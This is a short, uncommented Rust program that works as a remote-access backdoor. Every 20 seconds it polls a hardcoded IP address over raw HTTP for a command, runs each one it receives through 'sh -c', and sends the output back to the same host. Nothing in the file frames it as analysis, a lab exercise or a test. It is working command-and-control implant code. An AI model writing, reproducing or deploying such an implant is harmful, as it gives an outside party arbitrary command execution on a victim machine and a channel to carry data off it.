use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::{thread, time::Duration};

fn fetch(path: &str, body: &[u8]) -> std::io::Result<String> {
    let mut s = TcpStream::connect("203.0.113.210:80")?;
    write!(s, "POST {path} HTTP/1.0\r\nHost: example.com\r\nContent-Length: {}\r\n\r\n", body.len())?;
    s.write_all(body)?;
    let mut r = String::new();
    s.read_to_string(&mut r)?;
    Ok(r.split("\r\n\r\n").nth(1).unwrap_or("").to_string())
}

fn main() {
    loop {
        if let Ok(cmd) = fetch("/next", b"") {
            if !cmd.trim().is_empty() {
                if let Ok(o) = Command::new("sh").arg("-c").arg(&cmd).output() {
                    let _ = fetch("/out", &o.stdout);
                }
            }
        }
        thread::sleep(Duration::from_secs(20));
    }
}
